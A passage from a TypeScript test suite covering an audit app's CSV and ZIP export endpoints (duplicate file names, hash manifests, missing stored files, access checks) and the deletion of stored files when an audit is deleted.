        `2,,,"Cash, petty",,Draft,,,,,,0,Written response,,,${clientName}\r\n`,
    )
    expect(logEvents('audit.exported')).toContainEqual(
      expect.objectContaining({ format: 'csv', auditId: audit.id }),
    )
    expectError(
      await call(member.cookie, 'GET', `/api/audits/${audit.id}/export.csv`),
      403,
      'FORBIDDEN',
    )
    expectError(
      await call(otherCompany, 'GET', `/api/audits/${audit.id}/export.csv`),
      404,
      'NOT_FOUND',
    )
  })

  it('ZIP: one folder per accepted request with its accepted version’s files, and a manifest of hashes', async () => {
    const audit = await createAudit(t, admin, { projectId })
    const accepted = await sentRequest({ title: 'Bank / statements' }, audit.id)
    const pending = await sentRequest({ title: 'Payroll' }, audit.id)
    await uploaded(member.cookie, accepted.id, [{ name: 'old.pdf', data: PDF }])
    await call(member.cookie, 'POST', `/api/requests/${accepted.id}/submit`, {})
    await call(admin, 'POST', `/api/requests/${accepted.id}/return`, { reason: 'Again' })
    const big = Buffer.alloc(9000, 'statement line\n')
    const second = Buffer.from('second\n')
    await uploaded(member.cookie, accepted.id, [
      { name: 'a.txt', data: big },
      { name: 'a.txt', data: second },
      { name: 'a.txt', data: PNG },
    ])
    await call(member.cookie, 'POST', `/api/requests/${accepted.id}/submit`, {
      response: 'All twelve months,\nattached',
    })
    await call(admin, 'POST', `/api/requests/${accepted.id}/accept`)
    await uploaded(member.cookie, pending.id, [{ name: 'p.pdf', data: PDF }])
    await call(member.cookie, 'POST', `/api/requests/${pending.id}/submit`, {})
    // Answered in words alone: its folder holds the answer.
    const written = await sentRequest({ title: 'Cash count' }, audit.id)
    await call(member.cookie, 'POST', `/api/requests/${written.id}/submit`, {
      response: 'Counted: 412.50',
    })
    await call(admin, 'POST', `/api/requests/${written.id}/accept`)

    const res = await call(admin, 'GET', `/api/audits/${audit.id}/export.zip`)
    expect(res.statusCode, res.body).toBe(200)
    expect(res.headers['content-type']).toBe('application/zip')
    expect(res.headers['content-disposition']).toMatch(/^attachment; filename=".*\.zip"/)
    const entries = await readZip(res.rawPayload)
    expect([...entries.keys()]).toEqual([
      '1 Bank - statements/response.txt',
      '1 Bank - statements/a.txt',
      '1 Bank - statements/a (2).txt',
      '1 Bank - statements/a.txt.png',
      '3 Cash count/response.txt',
      'manifest.csv',
    ])
    const answer = Buffer.from('All twelve months,\r\nattached\r\n')
    expect(entries.get('1 Bank - statements/response.txt')!.equals(answer)).toBe(true)
    expect(entries.get('3 Cash count/response.txt')!.toString()).toBe('Counted: 412.50\r\n')
    expect(entries.get('1 Bank - statements/a.txt')!.equals(big)).toBe(true)
    expect(entries.get('1 Bank - statements/a (2).txt')!.equals(second)).toBe(true)
    expect(entries.get('1 Bank - statements/a.txt.png')!.equals(PNG)).toBe(true)
    expect(entries.get('manifest.csv')!.toString()).toBe(
      'Folder,File name,Size,SHA-256,Note\r\n' +
        `1 Bank - statements,response.txt,${answer.length},${sha256(answer)},The written answer\r\n` +
        `1 Bank - statements,a.txt,${big.length},${sha256(big)},\r\n` +
        `1 Bank - statements,a (2).txt,${second.length},${sha256(second)},\r\n` +
        `1 Bank - statements,a.txt.png,${PNG.length},${sha256(PNG)},\r\n` +
        `3 Cash count,response.txt,17,${sha256(Buffer.from('Counted: 412.50\r\n'))},The written answer\r\n`,
    )
    let python = true
    try {
      execFileSync('python3', ['-c', 'import zipfile'])
    } catch {
      python = false
    }
    if (python) {
      const check = execFileSync(
        'python3',
        [
          '-c',
          'import io,sys,zipfile; z=zipfile.ZipFile(io.BytesIO(sys.stdin.buffer.read())); print(z.testzip())',
        ],
        { input: res.rawPayload },
      )
      expect(check.toString().trim()).toBe('None')
    }
    expectError(
      await call(member.cookie, 'GET', `/api/audits/${audit.id}/export.zip`),
      403,
      'FORBIDDEN',
    )
  })

  it('ZIP: a file gone from disk is left out and named in the manifest; the archive stays whole', async () => {
    const audit = await createAudit(t, admin, { projectId })
    const request = await sentRequest({ title: 'Ledger' }, audit.id)
    const [lost] = await uploaded(member.cookie, request.id, [
      { name: 'lost.pdf', data: PDF },
      { name: 'kept.png', data: PNG },
    ])
    await call(member.cookie, 'POST', `/api/requests/${request.id}/submit`, {})
    await call(admin, 'POST', `/api/requests/${request.id}/accept`)
    await t.removeStored(await storageKeyOf(lost!.id))

    const res = await call(admin, 'GET', `/api/audits/${audit.id}/export.zip`)
    expect(res.statusCode, res.body).toBe(200)
    const entries = await readZip(res.rawPayload)
    expect([...entries.keys()]).toEqual(['1 Ledger/kept.png', 'manifest.csv'])
    expect(entries.get('manifest.csv')!.toString()).toBe(
      'Folder,File name,Size,SHA-256,Note\r\n' +
        `1 Ledger,lost.pdf,${PDF.length},${sha256(PDF)},Missing from storage: not in this archive\r\n` +
        `1 Ledger,kept.png,${PNG.length},${sha256(PNG)},\r\n`,
    )
    expect(logEvents('file.missing')).toContainEqual(
      expect.objectContaining({ fileId: lost!.id, level: 50 }),
    )
    await call(admin, 'DELETE', `/api/audits/${audit.id}`)
  })
})

describe('no orphan files', () => {
  it('deleting an audit deletes its stored files after the rows', async () => {
    const audit = await createAudit(t, admin, { projectId })
    const request = await sentRequest({}, audit.id)
    await uploaded(member.cookie, request.id, [
      { name: 'a.pdf', data: PDF },
      { name: 'b.png', data: PNG },
    ])
    const keys = (
      await selectRows<{ storage_key: string }>(
        t.app.db,
        sql`select storage_key from request_files where request_id = ${request.id}`,
      )
    ).map((row) => row.storage_key)
    expect(keys).toHaveLength(2)
    const res = await call(admin, 'DELETE', `/api/audits/${audit.id}`)
    expect(res.statusCode, res.body).toBe(204)
    for (const key of keys) expect(await storedFiles()).not.toContain(key)
    expect((await storedFiles()).sort()).toEqual((await storedKeys()).sort())
  })
})
